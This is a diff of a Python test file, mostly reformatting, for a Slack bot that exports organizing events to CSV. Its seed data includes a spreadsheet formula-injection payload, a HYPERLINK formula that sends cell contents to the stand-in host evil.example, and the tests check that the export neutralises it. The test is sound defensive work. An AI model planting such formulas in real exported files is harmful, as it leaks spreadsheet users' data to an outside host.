@@ -11,8 +11,8 @@ from datetime import timedelta
 
 from conftest import make_deliverer
 from fakeslack import Fault
-from schedhelp import add_event
 from messages import export
+from schedhelp import add_event
 from services import exports
 from services.imports import import_entries
 from services.listings import read_csv
@@ -26,10 +26,23 @@ EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 def add(database, now, *, title, created_by="U2", public=True, email=None, starts_in=timedelta(days=3), **extra):
     with database.session() as session:
-        event = Event(team_id="T0TEST", title=title, event_type="rally", all_day=False, starts_at=now + starts_in,
-                      ends_at=now + starts_in + timedelta(hours=2), timezone="America/Denver", is_public=public,
-                      contact_name="Ezzie Dominguez", contact_email=email, channel_id=extra.pop("channel_id", "C1"),
-                      created_by=created_by, created_at=now, updated_at=now, **extra)
+        event = Event(
+            team_id="T0TEST",
+            title=title,
+            event_type="rally",
+            all_day=False,
+            starts_at=now + starts_in,
+            ends_at=now + starts_in + timedelta(hours=2),
+            timezone="America/Denver",
+            is_public=public,
+            contact_name="Ezzie Dominguez",
+            contact_email=email,
+            channel_id=extra.pop("channel_id", "C1"),
+            created_by=created_by,
+            created_at=now,
+            updated_at=now,
+            **extra,
+        )
         session.add(event)
         session.flush()
         return event.id
@@ -37,13 +50,30 @@ def add(database, now, *, title, created_by="U2", public=True, email=None, start
 
 def seed(database, now) -> dict[str, int]:
     ids = {
-        "evil": add(database, now, title=EVIL_TITLE, email="ezzie@example.org", details="+1 555 0100 -- call us",
-                    lead_organizations="@everyone\tand\rfriends", city="-Denver", state="CO"),
-        "private": add(database, now, title="Roundtable with Sen. Feinstein’s staff", public=False, email="isanchez@chirla.org"),
+        "evil": add(
+            database,
+            now,
+            title=EVIL_TITLE,
+            email="ezzie@example.org",
+            details="+1 555 0100 -- call us",
+            lead_organizations="@everyone\tand\rfriends",
+            city="-Denver",
+            state="CO",
+        ),
+        "private": add(
+            database, now, title="Roundtable with Sen. Feinstein’s staff", public=False, email="isanchez@chirla.org"
+        ),
         "mine": add(database, now, title="My private visit", created_by="U1", public=False, email="sara@example.org"),
         "co-hosted": add(database, now, title="Vigil U1 co-hosts", public=False, email="cohost@example.org"),
-        "private channel": add(database, now, title="Planning call", channel_id="G1", private_channel=True, public=False,
-                               email="g@example.org"),
+        "private channel": add(
+            database,
+            now,
+            title="Planning call",
+            channel_id="G1",
+            private_channel=True,
+            public=False,
+            email="g@example.org",
+        ),
         "cancelled": add(database, now, title="Cancelled vigil", cancelled_at=now, cancelled_by="U2"),
         "past": add(database, now, title="Last week's rally", starts_in=timedelta(days=-7)),
     }
@@ -77,20 +107,49 @@ def test_export_arrives_in_the_dm_with_every_field_and_neutralised_formulas(bot,
 
     assert list(rows[0]) == list(export.COLUMNS) and {f.name for f in fields.TEXT_FIELDS} <= set(export.COLUMNS)
     by_id = {int(row["id"]): row for row in rows}
-    assert list(by_id) == [ids["past"], ids["evil"], ids["private"], ids["mine"], ids["co-hosted"], ids["cancelled"]]  # soonest first
+    assert list(by_id) == [
+        ids["past"],
+        ids["evil"],
+        ids["private"],
+        ids["mine"],
+        ids["co-hosted"],
+        ids["cancelled"],
+    ]  # soonest first
     evil = by_id[ids["evil"]]
     # Every cell a spreadsheet would run as a formula starts with an apostrophe, and only those.
     assert evil["title"] == "'" + EVIL_TITLE
-    assert (evil["details"], evil["lead_organizations"], evil["city"]) == ("'+1 555 0100 -- call us", "'@everyone\tand\rfriends", "'-Denver")
+    assert (evil["details"], evil["lead_organizations"], evil["city"]) == (
+        "'+1 555 0100 -- call us",
+        "'@everyone\tand\rfriends",
+        "'-Denver",
+    )
     assert export.restore(evil["title"]) == EVIL_TITLE
-    assert (evil["status"], evil["event_type"], evil["going"], evil["is_public"], evil["all_day"]) == ("upcoming", "Rally or action", "3", "yes", "no")
-    assert (evil["start_date"], evil["start_time"], evil["end_time"], evil["timezone"]) == ("2026-11-24", "08:00", "10:00", "America/Denver")
-    assert (evil["contact_name"], evil["contact_email"], evil["registered_by"], evil["channel"]) == ("Ezzie Dominguez", "ezzie@example.org", "U2", "C1")
+    assert (evil["status"], evil["event_type"], evil["going"], evil["is_public"], evil["all_day"]) == (
+        "upcoming",
+        "Rally or action",
+        "3",
+        "yes",
+        "no",
+    )
+    assert (evil["start_date"], evil["start_time"], evil["end_time"], evil["timezone"]) == (
+        "2026-11-24",
+        "08:00",
+        "10:00",
+        "America/Denver",
+    )
+    assert (evil["contact_name"], evil["contact_email"], evil["registered_by"], evil["channel"]) == (
+        "Ezzie Dominguez",
+        "ezzie@example.org",
+        "U2",
+        "C1",
+    )
     assert (by_id[ids["cancelled"]]["status"], by_id[ids["past"]]["status"]) == ("cancelled", "past")
     # A private event's email: not for U1, who neither hosts it nor is an admin; for its hosts, yes.
     assert (by_id[ids["private"]]["contact_email"], by_id[ids["mine"]]["contact_email"]) == ("", "sara@example.org")
     assert by_id[ids["co-hosted"]]["contact_email"] == "cohost@example.org"
-    assert "isanchez@chirla.org" not in str(rows) and "g@example.org" not in str(rows)  # nor the private channel's event
+    assert "isanchez@chirla.org" not in str(rows) and "g@example.org" not in str(
+        rows
+    )  # nor the private channel's event
     assert message["text"] == export.comment(6, 1)
     assert "left out: only admins and each event's hosts get them" in message["text"]
 
@@ -99,13 +158,20 @@ def test_one_campaigns_export(bot, slack, database, clock):
     ids = seed(database, clock())
     week = add(database, clock(), title="Vigil of the week", campaign_slug="where-r-the-refugees")
     reply = bot.command("/event", "export #WhereRTheRefugees", user="U1")
-    assert reply.text == "I'm putting the CSV of the events of National Week of Action: #WhereRTheRefugees together; it will be in our DM in a moment."
+    assert (
+        reply.text
+        == "I'm putting the CSV of the events of National Week of Action: #WhereRTheRefugees together; it will be in our DM in a moment."
+    )
     slack.wait_for("files.completeUploadExternal")
     message, rows = exported_to(slack, "U1")
-    assert [(int(row["id"]), row["campaign"]) for row in rows] == [(week, "where-r-the-refugees")] and ids["evil"] != week
+    assert [(int(row["id"]), row["campaign"]) for row in rows] == [(week, "where-r-the-refugees")] and ids[
+        "evil"
+    ] != week
     assert message["files"][0]["name"] == "events-where-r-the-refugees-2026-11-21-1.csv"
     assert message["files"][0]["title"] == "Events of National Week of Action: #WhereRTheRefugees"
-    assert message["text"] == export.comment(1, 0).replace("1 event,", "1 event of National Week of Action: #WhereRTheRefugees,")
+    assert message["text"] == export.comment(1, 0).replace(
+        "1 event,", "1 event of National Week of Action: #WhereRTheRefugees,"
+    )
     unknown = bot.command("/event", "export spring break", user="U1")
     assert "I don't know the campaign “spring break”" in unknown.text
     assert len(slack.calls_to("files.completeUploadExternal")) == 1
@@ -147,10 +213,24 @@ def test_an_upload_whose_reply_was_lost_is_not_shared_twice(slack, services, dat
 def test_a_failed_upload_is_retried_and_a_large_export_arrives_whole(slack, services, database, clock):
     now = clock()
     with database.session() as session:
-        session.execute(Event.__table__.insert(), [
-            dict(team_id="T0TEST", title=f"Vigil {n}", event_type="prayer_vigil", all_day=False,
-                 starts_at=now + timedelta(hours=n), timezone="America/Chicago", is_public=True, created_by="U2",
-                 created_at=now, updated_at=now) for n in range(1, 1201)])
+        session.execute(
+            Event.__table__.insert(),
+            [
+                dict(
+                    team_id="T0TEST",
+                    title=f"Vigil {n}",
+                    event_type="prayer_vigil",
+                    all_day=False,
+                    starts_at=now + timedelta(hours=n),
+                    timezone="America/Chicago",
+                    is_public=True,
+                    created_by="U2",
+                    created_at=now,
+                    updated_at=now,
+                )
+                for n in range(1, 1201)
+            ],
+        )
     exports.request(services, "T0TEST", "U1")
     slack.inject("upload", Fault.error("internal_error", 500))
     worker = make_deliverer(slack, services)
@@ -167,36 +247,82 @@ def report_on(database, event_id: int, user: str, when, **told) -> None:
         reports.save_report(session, session.get(Event, event_id), user, when, **fields_told)
 
 
-def test_the_export_ends_with_each_events_report_neutralised_and_the_import_reads_it_back(bot, slack, services, database, clock):
+def test_the_export_ends_with_each_events_report_neutralised_and_the_import_reads_it_back(
+    bot, slack, services, database, clock
+):
     """Turnout, press hits and links, what the official said, photos, next step, who reported and
     when (and who changed it last): in columns of their own, formula cells neutralised as every
     other, read back by `organizer-bot import`, which leaves them alone."""
     now = clock()
     ids = seed(database, now)
-    report_on(database, ids["past"], "U2", now - timedelta(days=6), turnout=45, official_said="=Rep. Denham's staff promised a meeting",
-              press_links=["https://news.example/modesto", "https://tv.example/clip?id=7"], next_step="-> town hall in March",
-              photos_url="https://photos.example/album/1")
-    report_on(database, ids["past"], "U1", now - timedelta(days=5), turnout=47, official_said="=Rep. Denham's staff promised a meeting",
-              press_links=["https://news.example/modesto", "https://tv.example/clip?id=7"], next_step="-> town hall in March",
-              photos_url="https://photos.example/album/1")  # corrected the next day
+    report_on(
+        database,
+        ids["past"],
+        "U2",
+        now - timedelta(days=6),
+        turnout=45,
+        official_said="=Rep. Denham's staff promised a meeting",
+        press_links=["https://news.example/modesto", "https://tv.example/clip?id=7"],
+        next_step="-> town hall in March",
+        photos_url="https://photos.example/album/1",
+    )
+    report_on(
+        database,
+        ids["past"],
+        "U1",
+        now - timedelta(days=5),
+        turnout=47,
+        official_said="=Rep. Denham's staff promised a meeting",
+        press_links=["https://news.example/modesto", "https://tv.example/clip?id=7"],
+        next_step="-> town hall in March",
+        photos_url="https://photos.example/album/1",
+    )  # corrected the next day
     report_on(database, ids["evil"], "U2", now, turnout=0, next_step="@everyone call your senator")
     bot.command("/event", "export", user="U1")
     slack.wait_for("files.completeUploadExternal")
     _, rows = exported_to(slack, "U1")
 
-    assert list(rows[0])[-len(export.REPORT_COLUMNS):] == list(export.REPORT_COLUMNS) == [
-        "turnout", "press_hits", "press_links", "official_said", "photos_url", "next_step",
-        "reported_by", "reported_at", "report_updated_by", "report_updated_at"]
+    assert (
+        list(rows[0])[-len(export.REPORT_COLUMNS) :]
+        == list(export.REPORT_COLUMNS)
+        == [
+            "turnout",
+            "press_hits",
+            "press_links",
+            "official_said",
+            "photos_url",
+            "next_step",
+            "reported_by",
+            "reported_at",
+            "report_updated_by",
+            "report_updated_at",
+        ]
+    )
     by_id = {int(row["id"]): row for row in rows}
     past = by_id[ids["past"]]
     assert (past["turnout"], past["press_hits"], past["press_links"]) == (
-        "47", "2", "https://news.example/modesto\nhttps://tv.example/clip?id=7")
+        "47",
+        "2",
+        "https://news.example/modesto\nhttps://tv.example/clip?id=7",
+    )
     assert (past["official_said"], past["next_step"], past["photos_url"]) == (
-        "'=Rep. Denham's staff promised a meeting", "'-> town hall in March", "https://photos.example/album/1")
+        "'=Rep. Denham's staff promised a meeting",
+        "'-> town hall in March",
+        "https://photos.example/album/1",
+    )
     assert (past["reported_by"], past["reported_at"], past["report_updated_by"], past["report_updated_at"]) == (
-        "U2", "2026-11-15T15:00:00+00:00", "U1", "2026-11-16T15:00:00+00:00")
+        "U2",
+        "2026-11-15T15:00:00+00:00",
+        "U1",
+        "2026-11-16T15:00:00+00:00",
+    )
     evil = by_id[ids["evil"]]
-    assert (evil["turnout"], evil["press_hits"], evil["press_links"], evil["next_step"]) == ("0", "0", "", "'@everyone call your senator")
+    assert (evil["turnout"], evil["press_hits"], evil["press_links"], evil["next_step"]) == (
+        "0",
+        "0",
+        "",
+        "'@everyone call your senator",
+    )
     assert all(by_id[ids["mine"]][column] == "" for column in export.REPORT_COLUMNS)  # no report yet
 
     # The import reads such a file back and leaves the report's columns alone.
@@ -216,7 +342,6 @@ def test_export_is_in_the_help(bot):
     assert "/event export" in bot.command("/event", "help").text
 
 
-
 def test_a_slow_export_holds_up_no_reminder(slack, services, database, clock):
     """An export takes a posting thread for as long as it takes (here Slack takes 3 s to share the
     file); the reminders (two in each of five channels) go out meanwhile, not after it."""
@@ -229,7 +354,9 @@ def test_a_slow_export_holds_up_no_reminder(slack, services, database, clock):
     queue_due_work(services)
     started = time.monotonic()
     make_deliverer(slack, services).run_once()
-    reminders_out = [c.at for c in slack.calls if c.method == "chat.postMessage" and "Reminder" in (c.args.get("text") or "")]
+    reminders_out = [
+        c.at for c in slack.calls if c.method == "chat.postMessage" and "Reminder" in (c.args.get("text") or "")
+    ]
     assert len(reminders_out) == 10 and len(slack.files_in("DU1")) == 1
     assert time.monotonic() - started >= 3.0  # the file took its three seconds...
     assert max(reminders_out) - started < 2.0  # ...and no reminder waited for it
